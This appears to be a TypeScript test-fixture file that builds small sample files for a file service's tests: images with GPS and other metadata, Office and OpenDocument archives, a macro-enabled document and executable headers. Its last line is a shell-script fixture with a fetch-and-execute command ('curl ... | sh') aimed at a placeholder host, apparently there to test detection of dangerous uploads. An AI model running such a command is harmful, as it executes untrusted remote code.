import { deflateRawSync, deflateSync } from 'node:zlib';

/**
 * Small, real files of every type the file service knows, made in code (no binary fixtures):
 * PDF, PNG (with text and eXIf chunks), JPEG (with EXIF GPS, XMP, a comment and a second image
 * after the end), WebP with EXIF, Office and OpenDocument ZIPs, and executables.
 */

/** An 8×8 JPEG (red square with a green centre) as Chromium encodes it: JFIF, ICC profile, no EXIF. */
export const TINY_JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQAAAQABAAD/4gHYSUNDX1BST0ZJTEUAAQEAAAHIAAAAAAQwAABtbnRyUkdCIFhZWiAH4AABAAEAAAAAAABhY3NwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAA9tYAAQAAAADTLQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAlkZXNjAAAA8AAAACRyWFlaAAABFAAAABRnWFlaAAABKAAAABRiWFlaAAABPAAAABR3dHB0AAABUAAAABRyVFJDAAABZAAAAChnVFJDAAABZAAAAChiVFJDAAABZAAAAChjcHJ0AAABjAAAADxtbHVjAAAAAAAAAAEAAAAMZW5VUwAAAAgAAAAcAHMAUgBHAEJYWVogAAAAAAAAb6IAADj1AAADkFhZWiAAAAAAAABimQAAt4UAABjaWFlaIAAAAAAAACSgAAAPhAAAts9YWVogAAAAAAAA9tYAAQAAAADTLXBhcmEAAAAAAAQAAAACZmYAAPKnAAANWQAAE9AAAApbAAAAAAAAAABtbHVjAAAAAAAAAAEAAAAMZW5VUwAAACAAAAAcAEcAbwBvAGcAbABlACAASQBuAGMALgAgADIAMAAxADb/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAAIAAgDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAb/xAAbEAEAAAcAAAAAAAAAAAAAAAAAFSUxUmWCkf/EABUBAQEAAAAAAAAAAAAAAAAAAAQH/8QAIREAAQIEBwAAAAAAAAAAAAAAAgERAAQSQRMUISIjQlH/2gAMAwEAAhEDEQA/AIGWwTI7XcoAEI0vq7xY5KSymJyEdZKW5XpfqPgpZLR//9k=',
  'base64',
);

export function pdf(text = 'Padu'): Buffer {
  return Buffer.from(
    `%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>> endobj\n% ${text}\ntrailer <</Root 1 0 R>>\n%%EOF\n`,
    'latin1',
  );
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
export function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** A 2×2 RGB PNG; with `metadata`, also a tEXt comment, an iTXt and an eXIf chunk with GPS. */
export function png(options: { metadata?: boolean } = {}): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const rows = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255]);
  const chunks = [pngChunk('IHDR', ihdr)];
  if (options.metadata) {
    chunks.push(pngChunk('tEXt', Buffer.from('Comment\0Lokasi: Jalan Pahlawan 110, Surabaya', 'latin1')));
    chunks.push(pngChunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>GPSLatitude</x:xmpmeta>', 'latin1')));
    chunks.push(pngChunk('eXIf', exifTiff()));
  }
  chunks.push(pngChunk('IDAT', deflateSync(rows)), pngChunk('IEND', Buffer.alloc(0)));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ...chunks]);
}

/**
 * A little-endian TIFF block as EXIF carries it: IFD0 with Make, Orientation 6 (rotate 90°) and a
 * pointer to a GPS IFD at 7°15'S 112°45'E (Surabaya).
 */
export function exifTiff(): Buffer {
  const b = Buffer.alloc(152);
  b.write('II', 0, 'latin1');
  b.writeUInt16LE(42, 2);
  b.writeUInt32LE(8, 4);
  const entry = (at: number, tag: number, type: number, count: number, value: (b: Buffer, at: number) => void) => {
    b.writeUInt16LE(tag, at);
    b.writeUInt16LE(type, at + 2);
    b.writeUInt32LE(count, at + 4);
    value(b, at + 8);
  };
  b.writeUInt16LE(3, 8);
  entry(10, 0x010f, 2, 4, (x, at) => x.write('Cam\0', at, 'latin1'));
  entry(22, 0x0112, 3, 1, (x, at) => x.writeUInt16LE(6, at));
  entry(34, 0x8825, 4, 1, (x, at) => x.writeUInt32LE(50, at));
  b.writeUInt32LE(0, 46);
  b.writeUInt16LE(4, 50);
  entry(52, 0x0001, 2, 2, (x, at) => x.write('S\0', at, 'latin1'));
  entry(64, 0x0002, 5, 3, (x, at) => x.writeUInt32LE(104, at));
  entry(76, 0x0003, 2, 2, (x, at) => x.write('E\0', at, 'latin1'));
  entry(88, 0x0004, 5, 3, (x, at) => x.writeUInt32LE(128, at));
  b.writeUInt32LE(0, 100);
  [7, 1, 15, 1, 0, 1].forEach((v, i) => b.writeUInt32LE(v, 104 + i * 4));
  [112, 1, 45, 1, 0, 1].forEach((v, i) => b.writeUInt32LE(v, 128 + i * 4));
  return b;
}

function jpegSegment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}

/**
 * TINY_JPEG with what phones and editors add: EXIF with GPS (APP1), XMP with a location (APP1),
 * IPTC (APP13), a comment, and a second picture after the end of image (as multi-picture files
 * carry), itself with EXIF.
 */
export function jpegWithGps(): Buffer {
  const exif = () => jpegSegment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), exifTiff()]));
  return Buffer.concat([
    TINY_JPEG.subarray(0, 2), // SOI
    exif(),
    jpegSegment(0xe1, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta><exif:GPSLatitude>7,15S</exif:GPSLatitude></x:xmpmeta>', 'latin1')),
    jpegSegment(0xed, Buffer.from('Photoshop 3.0\x008BIM\x04\x04 Surabaya', 'latin1')),
    jpegSegment(0xfe, Buffer.from('Dipotret di Jalan Pahlawan', 'latin1')),
    TINY_JPEG.subarray(2), // JFIF, ICC profile, tables, frame, scan, EOI
    Buffer.from([0xff, 0xd8]), // a second picture after the end, with its own EXIF
    exif(),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** JPEG segments up to the end of image: marker, payload; the scan data separately. */
export function jpegSegments(b: Buffer): { segments: { marker: number; payload: Buffer }[]; scan: Buffer; trailing: number } {
  if (b[0] !== 0xff || b[1] !== 0xd8) throw new Error('not a JPEG');
  const segments: { marker: number; payload: Buffer }[] = [];
  let i = 2;
  let scan: Buffer = Buffer.alloc(0);
  for (;;) {
    if (b[i] !== 0xff) throw new Error(`marker expected at ${i}`);
    const marker = b[i + 1]!;
    if (marker === 0xd9) return { segments, scan, trailing: b.length - (i + 2) };
    const length = b.readUInt16BE(i + 2);
    segments.push({ marker, payload: b.subarray(i + 4, i + 2 + length) });
    i += 2 + length;
    if (marker === 0xda) {
      let j = i;
      while (!(b[j] === 0xff && b[j + 1] !== 0 && !(b[j + 1]! >= 0xd0 && b[j + 1]! <= 0xd7))) j++;
      scan = b.subarray(i, j);
      i = j;
    }
  }
}

/** A WebP container with VP8X flags for EXIF and XMP, a dummy lossless bitstream and both chunks. */
export function webpWithExif(): Buffer {
  const chunk = (fourcc: string, data: Buffer) => {
    const head = Buffer.alloc(8);
    head.write(fourcc, 0, 'latin1');
    head.writeUInt32LE(data.length, 4);
    return Buffer.concat([head, data, data.length % 2 ? Buffer.alloc(1) : Buffer.alloc(0)]);
  };
  const vp8x = Buffer.alloc(10);
  vp8x[0] = 0x08 | 0x04;
  const body = Buffer.concat([
    chunk('VP8X', vp8x),
    chunk('VP8L', Buffer.from([0x2f, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00])),
    chunk('EXIF', exifTiff()),
    chunk('XMP ', Buffer.from('<x:xmpmeta>GPS</x:xmpmeta>', 'latin1')),
  ]);
  const head = Buffer.alloc(12);
  head.write('RIFF', 0, 'latin1');
  head.writeUInt32LE(4 + body.length, 4);
  head.write('WEBP', 8, 'latin1');
  return Buffer.concat([head, body]);
}

/** A ZIP archive (stored or deflated entries), as Office and LibreOffice write them. */
export function zip(entries: { name: string; data: Buffer | string; deflate?: boolean }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const raw = Buffer.isBuffer(e.data) ? e.data : Buffer.from(e.data, 'utf8');
    const data = e.deflate ? deflateRawSync(raw) : raw;
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(e.deflate ? 8 : 0, 8);
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.deflate ? 8 : 0, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const contentTypes = (main: string, extra = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${main}"/>${extra}</Types>`;

/** An OOXML package; `[Content_Types].xml` comes last and deflated, as LibreOffice writes it. */
function ooxml(mainPart: string, mainType: string, extra: { name: string; data: string }[] = []): Buffer {
  return zip([
    { name: '_rels/.rels', data: '<Relationships/>', deflate: true },
    { name: mainPart, data: '<document/>', deflate: true },
    ...extra.map((e) => ({ ...e, deflate: true })),
    { name: '[Content_Types].xml', data: contentTypes(mainType).replace('/main.xml', `/${mainPart}`), deflate: true },
  ]);
}

export const docx = () => ooxml('word/document.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml');
export const xlsx = () => ooxml('xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml');
export const pptx = () => ooxml('ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml');
/** A macro-enabled Word document (DOCM), whatever it is named. */
export const docm = () =>
  ooxml('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml', [{ name: 'word/vbaProject.bin', data: 'Attribute VB_Name' }]);

/** An OpenDocument file: `mimetype` first and stored, as the standard requires. */
function odf(type: string): Buffer {
  return zip([
    { name: 'mimetype', data: type },
    { name: 'content.xml', data: '<office:document-content/>', deflate: true },
    { name: 'META-INF/manifest.xml', data: '<manifest:manifest/>', deflate: true },
  ]);
}
export const odt = () => odf('application/vnd.oasis.opendocument.text');
export const ods = () => odf('application/vnd.oasis.opendocument.spreadsheet');

/** A Windows program's first bytes: DOS header with the PE offset, and the PE signature. */
export function exe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}
export const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
export const machO = () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(24)]);
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n', 'utf8');
